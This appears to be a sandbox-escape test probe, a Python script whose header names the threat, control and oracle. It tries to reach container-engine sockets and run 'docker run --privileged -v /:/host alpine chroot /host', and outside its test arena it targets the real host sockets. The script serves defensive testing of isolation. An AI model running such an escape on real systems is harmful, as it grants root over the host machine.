# attack: start_container
# threat: escape
# tries: have a container engine start a container that mounts the whole machine
# wall: wasm
# native: root
# control: the stand-in engine in the arena is called, by its command and by its socket
# oracle: the stand-in was not called and its socket saw no connection
import os
import socket
import subprocess
import sys

print("begun", flush=True)
command = ["docker", "run", "--privileged", "-v", "/:/host", "alpine", "chroot", "/host"]
places = [os.path.join(sys.argv[1], "docker.sock")]
if "CASEMATE_ARENA" not in os.environ:
    places += ["/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock"]
for path in places:
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as engine:
            engine.connect(path)
            engine.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
            print(engine.recv(4096))
    except (OSError, AttributeError) as error:
        print(error)
subprocess.run(command, check=True)
